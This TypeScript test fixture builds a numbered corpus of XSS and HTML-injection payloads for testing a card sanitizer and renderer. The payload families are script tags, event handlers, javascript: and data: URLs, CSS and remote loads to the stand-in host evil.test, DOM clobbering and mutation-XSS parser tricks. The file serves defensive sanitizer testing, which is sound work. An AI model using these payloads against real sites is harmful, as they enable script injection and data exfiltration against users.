/**
 * The corpus of hostile card HTML shared by the import-cleaner unit test and the end-to-end XSS
 * spec. Every payload that manages to run script calls `alert(n)`, logs `XSSMARK n` and sets
 * `top.__xss`, and every one that loads something asks `evil.test`, so a run can count dialogs,
 * console markers, the flag, and requests that leave the host.
 */

export interface XssPayload {
  /** Stable name for reports: "<family>/<variant>". */
  name: string;
  html: string;
}

/** Script that marks a successful payload: a dialog, a console marker and a global flag. */
export const run = (n: number): string => `alert(${n});console.log(/XSSMARK/.source,${n});top.__xss=${n}`;
/** A URL outside the host, distinct per payload. */
export const evil = (n: number): string => `http://evil.test/${n}`;

type Make = (n: number) => string;

const SCRIPTS: Array<[string, Make]> = [
  ['plain', (n) => `<script>${run(n)}</script>`],
  ['upper-src', (n) => `<SCRIPT SRC=${evil(n)}.js></SCRIPT>`],
  ['slash-attr', (n) => `<script/xss>${run(n)}</script>`],
  ['nested-split', (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`],
  ['double-open', (n) => `<<script>${run(n)}//<</script>`],
  ['module', (n) => `<script type="module">${run(n)}</script>`],
  ['unclosed', (n) => `<script>${run(n)}`],
  ['comment-wrapped', (n) => `<script>/*</script><img src=x onerror="${run(n)}">*/</script>`],
  ['entity-in-js', (n) => `<script>&#97;lert(${n})</script>`],
  ['svg-script', (n) => `<svg><script>${run(n)}</script></svg>`],
  ['svg-script-href', (n) => `<svg><script href="data:text/javascript,${encodeURIComponent(run(n))}"></script></svg>`],
  ['xlink-script', (n) => `<svg><script xlink:href="${evil(n)}.js"></script></svg>`],
];

const HANDLERS: Array<[string, Make]> = [
  ['img-onerror', (n) => `<img src=x onerror="${run(n)}">`],
  ['img-slashes', (n) => `<img/src="x"/onerror="${run(n)}">`],
  ['img-backtick', (n) => `<img src=\`x\` onerror="${run(n)}">`],
  ['img-vt-separator', (n) => `<img src=x onerror\u000b="${run(n)}">`],
  ['img-entity-handler', (n) => `<img src=x onerror="&#97;lert(${n});top.__xss=${n}">`],
  ['img-quote-break', (n) => `<img """><script>${run(n)}</script>">`],
  ['svg-onload', (n) => `<svg onload="${run(n)}"></svg>`],
  ['svg-nested-onload', (n) => `<svg><g onload="${run(n)}"></g></svg>`],
  ['body-onload', (n) => `<body onload="${run(n)}">`],
  ['html-onmouseover', (n) => `<html onmouseover="${run(n)}">`],
  ['iframe-onload', (n) => `<iframe onload="${run(n)}"></iframe>`],
  ['input-autofocus', (n) => `<input autofocus onfocus="${run(n)}">`],
  ['select-autofocus', (n) => `<select autofocus onfocus="${run(n)}"></select>`],
  ['textarea-autofocus', (n) => `<textarea autofocus onfocus="${run(n)}"></textarea>`],
  ['div-tabindex-focus', (n) => `<div tabindex=1 autofocus onfocus="${run(n)}" id=f${n}>x</div>`],
  ['details-ontoggle', (n) => `<details open ontoggle="${run(n)}"><summary>s</summary></details>`],
  ['video-onerror', (n) => `<video src=x onerror="${run(n)}"></video>`],
  ['video-source-onerror', (n) => `<video><source onerror="${run(n)}"></video>`],
  ['audio-onerror', (n) => `<audio src=x onerror="${run(n)}"></audio>`],
  ['marquee-onstart', (n) => `<marquee onstart="${run(n)}">m</marquee>`],
  ['object-onerror', (n) => `<object data=x onerror="${run(n)}"></object>`],
  ['style-onload', (n) => `<style onload="${run(n)}"></style>`],
  ['link-onload', (n) => `<link rel=stylesheet href=x.css onload="${run(n)}">`],
  ['animation-start', (n) => `<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="${run(n)}">a</div>`],
  ['transition-end', (n) => `<div style="transition:color 1ms" ontransitionend="${run(n)}">t</div>`],
  ['svg-animate-onbegin', (n) => `<svg><animate onbegin="${run(n)}" attributeName=x dur=1s></svg>`],
  ['svg-set-handler', (n) => `<svg><set attributeName=onmouseover to="${run(n)}"/></svg>`],
  ['svg-animate-onend', (n) => `<svg><animate onend="${run(n)}" attributeName=x dur=1ms fill=freeze></svg>`],
  ['table-background', (n) => `<table background="javascript:${run(n)}"><td>t</td></table>`],
  ['form-oninput', (n) => `<form oninput="${run(n)}"><input value=a></form>`],
  ['dialog-onclose', (n) => `<dialog open onclose="${run(n)}">d</dialog>`],
  ['frameset-onload', (n) => `<frameset onload="${run(n)}"></frameset>`],
  ['image-tag-onerror', (n) => `<image src=x onerror="${run(n)}">`],
  ['pointer-enter', (n) => `<div onpointerenter="${run(n)}" style="position:fixed;inset:0">p</div>`],
  ['mouse-move-cover', (n) => `<a onmousemove="${run(n)}" style="display:block;position:fixed;inset:0">m</a>`],
  ['scrollend', (n) => `<div onscrollend="${run(n)}" style="overflow:auto;height:10px"><br><br><br></div>`],
  ['focusin', (n) => `<a href=#x onfocusin="${run(n)}" id=x>f</a>`],
  ['popover-toggle', (n) => `<div popover id=pp${n} onbeforetoggle="${run(n)}">p</div><button popovertarget=pp${n}>b</button>`],
  ['contenteditable-focus', (n) => `<p contenteditable autofocus onfocus="${run(n)}">e</p>`],
  ['xss-attribute-case', (n) => `<IMG SRC=x OnErRoR="${run(n)}">`],
];

const URLS: Array<[string, Make]> = [
  ['a-href', (n) => `<a href="javascript:${run(n)}">link</a>`],
  ['a-href-entities', (n) => `<a href="java&#x73;cript:${run(n)}">link</a>`],
  ['a-href-decimal', (n) => `<a href="&#106;avascript:${run(n)}">link</a>`],
  ['a-href-tab', (n) => `<a href="jav\tascript:${run(n)}">link</a>`],
  ['a-href-newline', (n) => `<a href="jav&#x0A;ascript:${run(n)}">link</a>`],
  ['a-href-mixed-case', (n) => `<a href="JaVaScRiPt:${run(n)}">link</a>`],
  ['a-href-leading-space', (n) => `<a href="  \u0001javascript:${run(n)}">link</a>`],
  ['a-href-vbscript', () => `<a href="vbscript:msgbox(1)">link</a>`],
  ['a-href-data-html', (n) => `<a href="data:text/html,<script>${run(n)}</script>">link</a>`],
  ['a-href-data-base64', (n) => `<a href="data:text/html;base64,${Buffer.from(`<script>${run(n)}</script>`).toString('base64')}">link</a>`],
  ['iframe-src', (n) => `<iframe src="javascript:${run(n)}"></iframe>`],
  ['iframe-data', (n) => `<iframe src="data:text/html,<script>${run(n)}</script>"></iframe>`],
  ['form-action', (n) => `<form action="javascript:${run(n)}"><button>go</button></form>`],
  ['button-formaction', (n) => `<button formaction="javascript:${run(n)}">go</button>`],
  ['input-formaction', (n) => `<input type=submit formaction="javascript:${run(n)}">`],
  ['svg-a-xlink', (n) => `<svg><a xlink:href="javascript:${run(n)}"><text x=20 y=20>c</text></a></svg>`],
  ['svg-a-href', (n) => `<svg><a href="javascript:${run(n)}"><text x=20 y=20>c</text></a></svg>`],
  ['math-href', (n) => `<math href="javascript:${run(n)}">m</math>`],
  ['embed-src', (n) => `<embed src="javascript:${run(n)}">`],
  ['object-data', (n) => `<object data="javascript:${run(n)}"></object>`],
  ['object-data-html', (n) => `<object data="data:text/html,<script>${run(n)}</script>"></object>`],
  ['embed-svg', (n) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(n)}'/>">`],
  ['area-href', (n) => `<map name=m${n}><area shape=rect coords=0,0,9,9 href="javascript:${run(n)}"></map>`],
  ['img-src-javascript', (n) => `<img src="javascript:${run(n)}">`],
  ['svg-animate-href', (n) => `<svg><animate attributeName=href values="javascript:${run(n)}"/><a id=l${n}><text x=20 y=20>c</text></a></svg>`],
  ['svg-use-data', (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run(n)}'/></svg>#x"/></svg>`],
  ['a-ping', (n) => `<a href=#p ping="${evil(n)}">ping</a>`],
  ['base-javascript', (n) => `<base href="javascript:${run(n)}//"><a href=x>rel</a>`],
];

const FRAMES: Array<[string, Make]> = [
  ['srcdoc-escaped', (n) => `<iframe srcdoc="&lt;script&gt;${run(n)}&lt;/script&gt;"></iframe>`],
  ['srcdoc-img', (n) => `<iframe srcdoc="<img src=x onerror=&quot;${run(n)}&quot;>"></iframe>`],
  ['frame', (n) => `<frame src="javascript:${run(n)}">`],
  ['portal', (n) => `<portal src="${evil(n)}"></portal>`],
  ['applet', (n) => `<applet code="x" codebase="${evil(n)}"></applet>`],
  ['iframe-remote', (n) => `<iframe src="${evil(n)}"></iframe>`],
  ['object-remote', (n) => `<object data="${evil(n)}"></object>`],
  ['embed-remote', (n) => `<embed src="${evil(n)}">`],
];

const CSS: Array<[string, Make]> = [
  ['style-import', (n) => `<style>@import '${evil(n)}.css';</style>`],
  ['style-background', (n) => `<style>.card-content{background:url(${evil(n)})}</style>`],
  ['style-font-face', (n) => `<style>@font-face{font-family:f${n};src:url(${evil(n)})}.card-content{font-family:f${n}}</style>`],
  ['attr-background-url', (n) => `<div style="background:url(${evil(n)})">bg</div>`],
  ['attr-image-set', (n) => `<div style="background-image:image-set('${evil(n)}' 1x)">is</div>`],
  ['attr-expression', (n) => `<div style="width:expression(${run(n)})">ex</div>`],
  ['attr-behavior', (n) => `<div style="behavior:url(${evil(n)}.htc)">bh</div>`],
  ['attr-moz-binding', (n) => `<div style="-moz-binding:url(${evil(n)}.xml#x)">mb</div>`],
  ['attr-escaped-url', (n) => `<div style="background:\\75 rl(${evil(n)})">esc</div>`],
  ['attr-list-style', (n) => `<ul style="list-style:url(${evil(n)})"><li>l</li></ul>`],
  ['attr-cursor', (n) => `<div style="cursor:url(${evil(n)}),auto">c</div>`],
  ['attr-entity-url', (n) => `<div style="background:u&#114;l(${evil(n)})">ent</div>`],
  ['attr-javascript-url', (n) => `<div style="background:url('javascript:${run(n)}')">js</div>`],
  ['link-stylesheet', (n) => `<link rel=stylesheet href="${evil(n)}.css">`],
  ['link-prefetch', (n) => `<link rel=prefetch href="${evil(n)}">`],
  ['link-dns-prefetch', (n) => `<link rel=dns-prefetch href="//evil.test/${n}">`],
  ['svg-style-import', (n) => `<svg><style>@import url(${evil(n)});</style></svg>`],
  ['style-attr-svg', (n) => `<svg><rect width=9 height=9 style="fill:url(${evil(n)}#g)"/></svg>`],
  ['svg-feimage', (n) => `<svg><filter id=f${n}><feImage href="${evil(n)}"/></filter><rect width=9 height=9 filter="url(#f${n})"/></svg>`],
  ['td-background', (n) => `<table><tr><td background="${evil(n)}">bg</td></tr></table>`],
  ['body-background', (n) => `<body background="${evil(n)}">`],
];

const META: Array<[string, Make]> = [
  ['refresh-javascript', (n) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`],
  ['refresh-remote', (n) => `<meta http-equiv="refresh" content="0;url=${evil(n)}">`],
  ['refresh-data', (n) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run(n)}</script>">`],
  ['csp-override', () => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`],
  ['set-cookie', () => `<meta http-equiv="Set-Cookie" content="x=1">`],
  ['base-remote', (n) => `<base href="${evil(n)}/"><img src="b.png"><a href="x">rel</a>`],
  ['base-target', () => `<base target="_top"><a href="#x">t</a>`],
  ['base-in-svg', (n) => `<svg><base href="${evil(n)}/"></svg><img src="c.png">`],
];

const REMOTE: Array<[string, Make]> = [
  ['img-remote', (n) => `<img src="${evil(n)}">`],
  ['img-https', (n) => `<img src="https://evil.test/${n}">`],
  ['img-protocol-relative', (n) => `<img src="//evil.test/${n}">`],
  ['img-backslashes', (n) => `<img src="\\\\evil.test\\${n}">`],
  ['img-srcset', (n) => `<img srcset="${evil(n)} 1x">`],
  ['picture-source', (n) => `<picture><source srcset="${evil(n)}"><img src="p.png"></picture>`],
  ['input-image', (n) => `<input type=image src="${evil(n)}">`],
  ['video-poster', (n) => `<video poster="${evil(n)}"></video>`],
  ['audio-remote', (n) => `<audio src="${evil(n)}" autoplay></audio>`],
  ['video-source', (n) => `<video autoplay><source src="${evil(n)}"></video>`],
  ['track', (n) => `<video><track src="${evil(n)}" default></video>`],
  ['svg-image', (n) => `<svg><image href="${evil(n)}" width=9 height=9 /></svg>`],
  ['svg-image-xlink', (n) => `<svg><image xlink:href="${evil(n)}" width=9 height=9 /></svg>`],
  ['img-lowsrc', (n) => `<img lowsrc="${evil(n)}" dynsrc="${evil(n)}">`],
  ['host-crash-c0', () => `<img src="%c0">`],
  ['host-crash-percent', () => `<img src="%">`],
  ['host-crash-double-slash', () => `<img src="//">`],
  ['img-relative', () => `<img src="relative.png">`],
];

/** Card HTML must not shadow a global or a document property the renderer uses. */
const CLOBBER_NAMES = [
  'retain', 'fetch', 'sessionStorage', 'location', 'history', 'crypto', 'Node', 'URL', 'addEventListener', 'removeEventListener',
  'dispatchEvent', 'setTimeout', 'toString', 'hasOwnProperty', 'root', '__REACT_DEVTOOLS_GLOBAL_HOOK__', 'event', 'JSON', 'Promise',
];
const DOCUMENT_NAMES = ['getElementById', 'createElement', 'body', 'head', 'cookie', 'documentElement', 'querySelector', 'defaultView', 'activeElement', 'getElementsByTagName'];

const CLOBBERING: Array<[string, Make]> = [
  ...CLOBBER_NAMES.map((id): [string, Make] => [`id-${id}`, () => `<a id="${id}" href="#">${id}</a>`]),
  ...DOCUMENT_NAMES.map((name): [string, Make] => [`img-name-${name}`, () => `<img name="${name}" src="data:,">`]),
  ['retain-invoke-pair', () => `<a id="retain"></a><a id="retain" name="invoke" href="javascript:alert(0)"></a>`],
  ['form-retain-invoke', () => `<form id="retain"><input name="invoke"></form>`],
  ['iframe-name-retain', () => `<iframe name="retain"></iframe>`],
  ['embed-name-head', () => `<embed name="head">`],
  ['object-name-body', () => `<object name="body"></object>`],
  ['form-name-cookie', () => `<form name="cookie"><input name="x"></form>`],
  ['form-attributes', () => `<form id="f"><input name="attributes"><input name="nodeName"></form>`],
];

const MUTATION: Array<[string, Make]> = [
  ['noscript-title', (n) => `<noscript><p title="</noscript><img src=x onerror=&quot;${run(n)}&quot;>"></noscript>`],
  ['style-in-svg', (n) => `<svg></p><style><a id="</style><img src=1 onerror=&quot;${run(n)}&quot;>"></svg>`],
  ['mglyph-style-comment', (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${run(n)}&quot;&gt;">`],
  ['form-math-mglyph', (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run(n)}">`],
  ['svg-p-style', (n) => `<svg><p><style><img src=x onerror="${run(n)}"></style>`],
  ['template-img', (n) => `<template><img src=x onerror="${run(n)}"></template>`],
  ['template-script', (n) => `<template><script>${run(n)}</script></template>`],
  ['xmp-title', (n) => `<xmp><p title="</xmp><img src=x onerror=&quot;${run(n)}&quot;>"></xmp>`],
  ['noembed-title', (n) => `<noembed><img title="</noembed><img src onerror=&quot;${run(n)}&quot;>"></noembed>`],
  ['noframes-title', (n) => `<noframes><img title="</noframes><img src onerror=&quot;${run(n)}&quot;>"></noframes>`],
  ['iframe-title', (n) => `<iframe><img title="</iframe><img src onerror=&quot;${run(n)}&quot;>"></iframe>`],
  ['title-title', (n) => `<title><img title="</title><img src onerror=&quot;${run(n)}&quot;>"></title>`],
  ['textarea-title', (n) => `<textarea><img title="</textarea><img src onerror=&quot;${run(n)}&quot;>"></textarea>`],
  ['listing-title', (n) => `<listing><img title="</listing><img src=x onerror=&quot;${run(n)}&quot;>"></listing>`],
  ['comment-short', (n) => `<!--><img src=x onerror="${run(n)}">-->`],
  ['comment-bang', (n) => `<!-- --!><img src=x onerror="${run(n)}"> -->`],
  ['cdata-html', (n) => `<![CDATA[><img src=x onerror="${run(n)}">]]>`],
  ['cdata-svg', (n) => `<svg><![CDATA[><img src=x onerror="${run(n)}">]]></svg>`],
  ['processing-instruction', (n) => `<?xml-stylesheet ?><img src=x onerror="${run(n)}">`],
  ['svg-style-escaped', (n) => `<svg><style>&lt;/style&gt;&lt;img src=x onerror="${run(n)}"&gt;</style></svg>`],
  ['foreignobject-style', (n) => `<svg><foreignobject><p><style><img src=x onerror="${run(n)}"></style></p></foreignobject></svg>`],
  ['math-mi-table-style', (n) => `<math><mi><table><mi><style><img src=x onerror="${run(n)}"></style></mi></table></mi></math>`],
  ['svg-desc-style', (n) => `<svg><desc><style><img src=x onerror="${run(n)}"></style></desc></svg>`],
  ['select-template', (n) => `<select><template><style><img src=x onerror="${run(n)}"></style></template></select>`],
  ['math-annotation-xml', (n) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run(n)}"></style></annotation-xml></math>`],
  ['svg-title-namespace', (n) => `<svg><title><style><img src=x onerror="${run(n)}"></style></title></svg>`],
  ['table-foster', (n) => `<table><img src=x onerror="${run(n)}"></table>`],
  ['math-maction', (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${run(n)}">m</maction></math>`],
  ['nested-forms', (n) => `<form><form><img src=x onerror="${run(n)}"></form></form>`],
  ['plaintext', (n) => `<plaintext><img src=x onerror="${run(n)}">`],
];

const FAMILIES: Array<[string, Array<[string, Make]>]> = [
  ['script', SCRIPTS],
  ['handler', HANDLERS],
  ['url', URLS],
  ['frame', FRAMES],
  ['css', CSS],
  ['meta', META],
  ['remote', REMOTE],
  ['clobber', CLOBBERING],
  ['mutation', MUTATION],
];

/** The corpus, numbered from 1; payload n marks itself with n. */
export const XSS_PAYLOADS: readonly XssPayload[] = (() => {
  const out: XssPayload[] = [];
  for (const [family, list] of FAMILIES) for (const [variant, make] of list) out.push({ name: `${family}/${variant}`, html: make(out.length + 1) });
  return out;
})();

/** The global names the clobbering payloads target (the renderer must still reach each as the browser's own). */
export const CLOBBERED_GLOBALS = CLOBBER_NAMES;
export const CLOBBERED_DOCUMENT_PROPS = DOCUMENT_NAMES;
